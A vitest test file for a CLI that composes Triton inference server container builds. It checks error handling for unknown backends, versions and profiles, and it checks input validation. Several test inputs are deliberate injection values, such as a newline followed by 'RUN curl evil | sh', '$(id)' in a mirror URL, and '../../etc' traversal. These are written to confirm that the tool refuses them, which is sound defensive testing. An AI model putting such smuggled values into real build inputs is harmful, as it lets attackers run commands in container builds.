import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadProfile, listProfiles } from '../../src/compose/profiles.js';
import { parseImageFlag, toInputs } from '../../src/cli/compose-options.js';
import { offlinePlan } from './compose-helpers.js';
import { tempDir } from '../support/temp-dir.js';

const code = (fn: () => unknown): string | undefined => {
  try {
    fn();
  } catch (error) {
    return `${(error as { code?: string }).code}: ${(error as Error).message}`;
  }
  return undefined;
};

describe('bad input', () => {
  it('refuses an unknown backend with the list of available names (exit 2)', () => {
    expect(code(() => offlinePlan({ version: '24.09', backend: ['onnx'] }))).toBe(
      "USAGE: unknown backend 'onnx'; container 24.09 ships: dali, fil, identity, onnxruntime, openvino, python, pytorch, repeat, square, tensorflow, tensorrt",
    );
    expect(code(() => offlinePlan({ version: '25.09', backend: ['tensorflow'] }))).toMatch(
      /unknown backend 'tensorflow'/,
    );
    expect(code(() => offlinePlan({ version: '24.09', cacheNames: ['memcached'] }))).toMatch(
      /unknown cache 'memcached'; .*local, redis/,
    );
  });

  it('refuses an unknown version naming the supported range', () => {
    expect(code(() => offlinePlan({ version: '22.01' }))).toMatch(
      /^BAD_RELEASE: unknown container version '22\.01'; tslim knows 23\.05–26\.07/,
    );
    expect(code(() => offlinePlan({ version: '24.9' }))).toMatch(/^USAGE: refusing --version "24\.9"/);
  });

  it.each([
    ['backend with a newline', { version: '24.09', backend: ['onnxruntime\nRUN curl evil | sh'] }],
    ['backend with ..', { version: '24.09', backend: ['../../etc'] }],
    ['repoagent with a space', { version: '24.09', repoagent: ['checksum x'] }],
    ['apt mirror with $', { version: '24.09', aptMirror: 'http://mirror/$(id)' }],
    ['apt mirror with a quote', { version: '24.09', aptMirror: 'http://mirror/"x' }],
    ['pip index with credentials', { version: '24.09', pipIndexUrl: 'http://user:pw@pypi/simple' }],
    ['cuda repo with ..', { version: '24.09', cudaRepo: 'http://repo/../x' }],
    ['dcgm version with a newline', { version: '24.09', dcgmVersion: '3.2.6\nRUN id' }],
    ['registry mirror with a backslash', { version: '24.09', registryMirror: ['nvcr.io=harbor\\x'] }],
    ['build arg value with a newline', { version: '24.09', buildArg: ['A=1\nB'] }],
    ['build arg name with $', { version: '24.09', buildArg: ['$A=1'] }],
    ['output name with a space', { version: '24.09', outputName: 'a b' }],
    ['trusted host with a slash', { version: '24.09', pipTrustedHost: 'a/b' }],
  ])('refuses %s before rendering', (_what, flags) => {
    expect(code(() => toInputs(flags, undefined))).toMatch(/^USAGE: refusing /);
  });

  it('refuses image references that could inject text', () => {
    expect(() => parseImageFlag('full=nvcr.io/x:1 AS y\nRUN id')).toThrow(/refusing --image full/);
    expect(() => parseImageFlag('full=../x')).toThrow(/refusing/);
    expect(() => parseImageFlag('base=ubuntu:24.04')).toThrow(/roles: full, min, gpu-min/);
    expect(parseImageFlag('full,127.0.0.1:5055/nvidia/tritonserver:24.09-py3')).toEqual([
      'full',
      '127.0.0.1:5055/nvidia/tritonserver:24.09-py3',
    ]);
  });

  it('needs both full and min when either is given', () => {
    expect(code(() => offlinePlan({ image: ['full=nvcr.io/nvidia/tritonserver:24.09-py3'] }))).toMatch(
      /--image needs both full and min/,
    );
  });
});

describe('profiles', () => {
  it('ships onnx-trt, asr and llm-python', async () => {
    const names = (await listProfiles()).map((p) => p.name);
    expect(names).toEqual(expect.arrayContaining(['onnx-trt', 'asr', 'llm-python']));
    expect((await loadProfile('asr')).backends).toEqual(['onnxruntime', 'python', 'tensorrt']);
  });

  it('lets flags override profile values', async () => {
    const asr = await loadProfile('asr');
    expect(toInputs({ version: '24.09' }, asr).backends).toEqual(['onnxruntime', 'python', 'tensorrt']);
    expect(toInputs({ version: '24.09', backend: ['identity'] }, asr).backends).toEqual(['identity']);
  });

  it('refuses unreadable, invalid and unknown-key profiles with clear errors', async () => {
    const dir = await tempDir('prof');
    await expect(loadProfile(join(dir, 'missing.yaml'))).rejects.toMatchObject({
      code: 'USAGE',
      message: expect.stringMatching(/cannot read profile .*missing\.yaml/),
    });
    await writeFile(join(dir, 'bad.yaml'), 'backends: [onnxruntime\n');
    await expect(loadProfile(join(dir, 'bad.yaml'))).rejects.toMatchObject({
      code: 'USAGE',
      message: expect.stringMatching(/is not valid YAML/),
    });
    await writeFile(join(dir, 'extra.json'), JSON.stringify({ backends: ['python'], bakends: [] }));
    await expect(loadProfile(join(dir, 'extra.json'))).rejects.toThrow(/unknown key\(s\) bakends/);
    await expect(loadProfile('no-such-profile')).rejects.toThrow(
      /unknown profile 'no-such-profile'; shipped profiles: asr, llm-python, onnx-trt/,
    );
  });

  it('accepts a server: section (reserved hook) and carries it to the plan', async () => {
    const dir = await tempDir('prof');
    await writeFile(join(dir, 'p.yaml'), 'backends: [python]\nserver:\n  model-control-mode: explicit\n');
    const profile = await loadProfile(join(dir, 'p.yaml'));
    expect(offlinePlan({ version: '24.09' }, profile).server).toEqual({ 'model-control-mode': 'explicit' });
  });
});
